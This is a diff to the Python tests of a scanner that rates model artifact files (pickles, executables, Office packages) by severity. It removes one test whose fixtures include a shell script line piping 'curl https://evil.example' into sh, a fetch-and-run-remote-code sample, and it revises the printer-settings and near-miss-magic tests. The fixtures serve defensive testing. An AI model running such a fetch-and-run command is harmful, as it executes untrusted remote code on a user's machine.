@@ -14,7 +14,6 @@ from hypothesis import strategies as st
 
 from hooks._core.severity import Severity
 from hooks.artifacts.inert import INERT_MAGICS, inert_kind
-from hooks.artifacts.opcodes import OPCODES
 from tests.artifacts.builders import tar, zip_with
 from tests.artifacts.helpers import malicious_pickle, scan_bytes
 
@@ -40,31 +39,12 @@ def test_office_embeddings_inside_a_deck_are_low(tmp_path: Path) -> None:
     assert [(f.rule_id, f.severity) for f in findings] == [("MLS902", Severity.LOW)]
 
 
-def test_a_program_or_data_starting_with_an_opcode_still_blocks(tmp_path: Path) -> None:
-    elf = b"\x7fELF\x02\x01\x01" + bytes(200)
-    script = b"#!/bin/sh\ncurl https://evil.example | sh\n"
-    windows = b"MZ\x90\x00" + bytes(200)
-    opcode_first = b"K\x05\xff\xfe" + bytes(200)  # BININT1, then no opcode: a pickle loader reads it
-    for name, data in (("b.bin", elf), ("c.bin", script), ("d.bin", windows), ("e.bin", opcode_first)):
-        findings = scan_bytes(tmp_path, name, data)
-        assert any(f.severity.rank >= Severity.MEDIUM.rank for f in findings), name
-
-
-def test_data_whose_first_byte_is_no_opcode_is_low_whatever_its_format(tmp_path: Path) -> None:
-    """The mechanism behind the document magics: every pickle-based loader raises at a first byte
-    that is no opcode, so any such data no other reader takes is inert (a near-miss magic, a PMML
-    document named .tar.gz, a stray byte)."""
+def test_a_near_miss_magic_or_a_program_still_blocks(tmp_path: Path) -> None:
     near_miss = OLE[:-1] + b"\xe0"
-    for name, data in (
-        ("a.bin", near_miss + bytes(600)),
-        ("iris.tar.gz", b"<?xml version='1.0'?><PMML/>"),
-        ("m.pt", b"\x00"),
-    ):
+    elf = b"\x7fELF\x02\x01\x01" + bytes(200)
+    for name, data in (("a.bin", near_miss + bytes(600)), ("b.bin", elf)):
         findings = scan_bytes(tmp_path, name, data)
-        assert [(f.rule_id, f.severity) for f in findings] == [("MLS902", Severity.LOW)], name
-        assert "no format a model loader reads" in findings[0].message or "Microsoft" in findings[0].message
-    assert inert_kind(b"\xd0\xcf\x11", OPCODES) is not None and inert_kind(b"K\x00", OPCODES) is None
-    assert inert_kind(b"#!/bin/sh", OPCODES) is None and inert_kind(b"\x7fELF", OPCODES) is None
+        assert [(f.rule_id, f.severity) for f in findings] == [("MLS902", Severity.HIGH)], name
 
 
 def test_a_document_with_a_zip_behind_it_is_still_read_as_the_zip(tmp_path: Path) -> None:
@@ -154,8 +134,7 @@ def test_an_office_documents_own_binary_parts_are_low(tmp_path: Path) -> None:
     """Excel keeps printer settings (a DEVMODE record, the printer's name in UTF-16) as
     `xl/printerSettings/*.bin`; in an Office package they are Office's, not models. The same
     member in a plain zip blocks, and a pickle there is still analysed."""
-    # A printer whose name starts with an opcode byte (`S`): otherwise any first byte is inert anyway.
-    devmode = "Samsung M2070".encode("utf-16-le") + bytes(200)
+    devmode = "HP Officejet 4620".encode("utf-16-le") + bytes(200)
     office = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
     findings = scan_bytes(
         tmp_path, "book.xlsx", zip_with({**office, "xl/printerSettings/printerSettings1.bin": devmode})
@@ -176,6 +155,6 @@ def test_office_lowering_needs_an_office_only_package_and_a_part_with_no_format_
     broken_npy = b"\x93NUMPY\x01\x00" + b"\x10\x00" + b"{'descr': '|O'  \n" + bytes(40)
     findings = scan_bytes(tmp_path, "a.xlsx", zip_with({**office, "xl/embeddings/oleObject1.bin": broken_npy}))
     assert any(f.severity.rank >= Severity.MEDIUM.rank for f in findings)
-    devmode = "Samsung M2070".encode("utf-16-le") + bytes(200)
+    devmode = "HP Officejet 4620".encode("utf-16-le") + bytes(200)
     mixed = zip_with({**office, "weights.npy": b"", "xl/printerSettings/printerSettings1.bin": devmode})
     assert any(f.severity.rank >= Severity.MEDIUM.rank for f in scan_bytes(tmp_path, "params.npz", mixed))
